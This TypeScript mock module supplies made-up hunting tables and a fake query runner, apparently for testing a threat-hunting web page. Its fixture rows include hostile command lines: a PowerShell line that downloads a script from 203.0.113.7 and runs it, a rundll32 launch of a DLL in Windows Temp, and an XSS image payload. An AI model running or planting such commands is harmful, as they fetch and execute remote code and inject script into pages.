// Made-up tables, and answers to the few queries that a page without a server needs: rows of any
// table, sums over time, a place that is wrong.
import { ApiError } from '../api/client.ts';
import type { HuntingQuery, HuntingResult, HuntingSchema, HuntingTable } from '../api/generated.ts';

const table = (name: string, rows: number, columns: string): HuntingTable => ({
  name, rows, origin: 'defender', legacy: false, timeColumn: 'Timestamp',
  columns: columns.split(' ').map((column) => {
    const [title = '', type = 'string'] = column.split(':');
    return { name: title, type };
  }),
});

export const schema: HuntingSchema = {
  tables: [
    table('AlertInfo', 57, 'Timestamp:datetime AlertId Title Severity AttackTechniques'),
    table('DeviceNetworkEvents', 311_870, 'Timestamp:datetime DeviceName ActionType RemoteIP RemotePort:int InitiatingProcessFileName'),
    table('DeviceProcessEvents', 402_113, 'Timestamp:datetime DeviceName FileName ProcessId:long ProcessCommandLine AccountName AdditionalFields:dynamic'),
    table('EmailEvents', 0, 'Timestamp:datetime Subject SenderFromAddress'),
    table('SigninLogs', 101_220, 'TimeGenerated:datetime UserPrincipalName ResultType IPAddress'),
  ],
  functions: [{ name: 'ago', kind: 'scalar' }, { name: 'count', kind: 'aggregate' }],
};

const commands = ['whoami /all', '<img src=x onerror=alert(1)>', 'powershell -c "iwr http://203.0.113.7/a.ps1 | iex"', 'rundll32.exe C:\\Windows\\Temp\\rtcpef.dll,Start'];
const at = (minute: number) => new Date(Date.UTC(2023, 7, 16, 4, minute)).toISOString();

function rowsOf(count: number): Pick<HuntingResult, 'columns' | 'rows' | 'evidence'> {
  const columns = schema.tables.find(({ name }) => name === 'DeviceProcessEvents')?.columns ?? [];
  const indexes = Array.from({ length: count }, (_, index) => index);
  const rows = indexes.map((index) => [at(index), index % 3 ? 'MKT01' : 'FS02', index % 2 ? 'whoami.exe' : 'powershell.exe', 7_000 + index, commands[index % commands.length], '', { Origin: { Ip: '203.0.113.7' }, Tags: ['a', 'b'] }]);
  return { columns, rows, evidence: indexes.map(() => [{ table: 'DeviceProcessEvents', itemId: '0001-01-0' }]) };
}

function sums(): Pick<HuntingResult, 'columns' | 'rows'> {
  const columns = [{ name: 'Timestamp', type: 'datetime' }, { name: 'DeviceName', type: 'string' }, { name: 'count_', type: 'long' }];
  const rows = Array.from({ length: 48 }, (_, index) => [at(60 * Math.floor(index / 2)), index % 2 ? 'MKT01' : 'FS02', 20 + ((index * 37) % 60)]);
  return { columns, rows };
}

/** Answers a query; a name that is no table's is a place that is wrong. */
export function runQuery({ query, id, maxRows }: HuntingQuery): HuntingResult {
  const [name = ''] = /[A-Za-z_]\w*/.exec(query) ?? [];
  const start = query.indexOf(name);
  if (!schema.tables.some((known) => known.name === name)) {
    const message = `no table is called ${name}`;
    throw new ApiError('failed', message, '/api/hunting/query', 'mock-3', [{ code: 'KS204', message, severity: 'error', start, end: start + name.length }]);
  }
  const visualization = /\|\s*render\s+(\w+)/.exec(query)?.[1];
  const most = Number(/take\s+(\d+)/.exec(query)?.[1] ?? 240);
  const given = Math.min(most, maxRows ?? most);
  const part = /summarize/.test(query) ? sums() : rowsOf(given);
  return { id: id ?? 'mock', render: visualization ? { visualization, properties: {} } : null, truncated: most > given, elapsedMs: 84, ...part };
}
